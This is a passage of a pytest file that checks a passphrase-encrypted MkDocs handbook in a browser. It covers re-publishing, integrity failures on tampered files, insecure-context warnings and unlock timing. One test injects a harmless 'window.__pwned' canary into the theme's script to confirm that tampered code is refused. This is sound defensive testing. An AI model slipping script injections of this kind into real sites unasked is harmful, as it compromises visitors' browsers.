        os.utime(path, (day_old, day_old))
    rebuilt = tmp_path / "rebuilt"
    shutil.copytree(sites["project"], rebuilt, ignore=shutil.ignore_patterns("site"))
    second = "wildfire crumpet sulfide attest reenact"
    assert _mkdocs(rebuilt, second).returncode == 0
    with _visiting(browser, served) as (page, url):
        _unlocked_at(page, url + "notes-2/")
        shutil.rmtree(served)
        shutil.copytree(rebuilt / "site", served)
        page.goto(url + "notes-2/questions/")
        page.wait_for_selector("#status.bad", timeout=15_000)
        assert "published again" in page.inner_text("#status")
        body = page.inner_text("body")
        assert "integrity" not in body and "bottlenecks" not in page.content()
        names = page.evaluate("caches.keys()")
        assert not [n for n in names if n.startswith("site-lock:/")]  # the old copy is gone
        _unlocked_at(page, url + "notes-2/questions/", second)
        assert "bottlenecks to growth" in _article(page)


@pytest.mark.browser
@pytest.mark.site
def test_a_theme_file_changed_on_the_host_is_refused(
    sites: dict[str, Path], browser: Browser, tmp_path: Path
) -> None:
    """The encrypted file list holds the SHA-256 of every plain file: a host (or anyone who
    can publish) that swaps the theme's script gets a refusal, not a script run."""
    site = tmp_path / "site"
    shutil.copytree(sites["locked"], site)
    bundle = next(site.glob("assets/javascripts/bundle.*.min.js"))
    bundle.write_text("window.__pwned = 1;" + bundle.read_text("utf-8"), "utf-8")
    with _visiting(browser, site) as (page, url):
        _unlocked_at(page, url + "notes-2/")
        assert page.evaluate("window.__pwned") is None
        status = page.evaluate(
            f"fetch('{url}{bundle.relative_to(site).as_posix()}').then(r => r.status)"
        )
        assert status == 500


@pytest.mark.parametrize("tamper", ["flip", "swap"])
@pytest.mark.browser
@pytest.mark.site
def test_a_tampered_file_is_refused_not_shown(
    sites: dict[str, Path], browser: Browser, tmp_path: Path, tamper: str
) -> None:
    site = tmp_path / "site"
    shutil.copytree(sites["locked"], site)
    questions = site / "notes-2/questions/index.html.enc"
    if tamper == "flip":
        data = bytearray(questions.read_bytes())
        data[len(data) // 2] ^= 0x01
        questions.write_bytes(bytes(data))
    else:
        narrative = site / "notes-2/narrative/index.html.enc"
        a, b = questions.read_bytes(), narrative.read_bytes()
        questions.write_bytes(b)
        narrative.write_bytes(a)
    with _visiting(browser, site) as (page, url):
        _unlocked_at(page, url + "notes-2/")
        page.goto(url + "notes-2/questions/")
        text = page.inner_text("body")
        assert "failed its integrity check" in text
        assert "bottlenecks" not in text and "I joined Microsoft" not in text


@pytest.mark.browser
@pytest.mark.site
def test_plain_http_on_a_network_address_says_it_is_not_a_secure_context(
    sites: dict[str, Path], browser: Browser
) -> None:
    """As on http://192.168.x.y:8000: served here by request interception (no traffic)."""
    site = sites["locked"]
    context = browser.new_context()

    def serve(route: object) -> None:
        path = route.request.url.split("http://handbook.test/", 1)[1] or "index.html"  # type: ignore[attr-defined]
        path = path + "index.html" if path.endswith("/") else path
        file = site / path
        route.fulfill(
            status=200 if file.is_file() else 404, path=str(file) if file.is_file() else None
        )  # type: ignore[attr-defined]

    context.route("http://handbook.test/**", serve)
    page = context.new_page()
    page.goto("http://handbook.test/notes-2/")
    page.wait_for_selector("#status.bad")
    assert "not a secure context" in page.inner_text("#status")
    assert page.is_disabled("#passphrase")
    context.close()


@pytest.mark.browser
@pytest.mark.site
def test_unlock_cost_is_reported(sites: dict[str, Path], browser: Browser) -> None:
    with _visiting(browser, sites["locked"]) as (page, url):
        _unlock(page, url)
        page.wait_for_function("() => document.documentElement.dataset.deriveMs !== undefined")
        derive_ms = int(page.evaluate("document.documentElement.dataset.deriveMs"))
    print(f"\nunlock: PBKDF2-HMAC-SHA256 600,000 iterations in Chromium: {derive_ms} ms")
    assert derive_ms > 0


@pytest.mark.serve
def test_serve_stays_unlocked_on_this_machine_and_says_so(tmp_path: Path) -> None:
    project = _project(tmp_path / "p", private=True)
    server = Server(project, tmp_path / "serve.log")  # no passphrase needed, none asked
    try:
        body = server.wait_for("/notes-2/questions/", lambda s, b: s == 200, "the first build")
    finally:
        server.stop()
    assert "bottlenecks to growth" in body and "Locked handbook" not in body
    log = server.log.read_text()
    assert "private: mkdocs serve shows the handbook unlocked, for this machine only" in log
    assert "private: locked" not in log
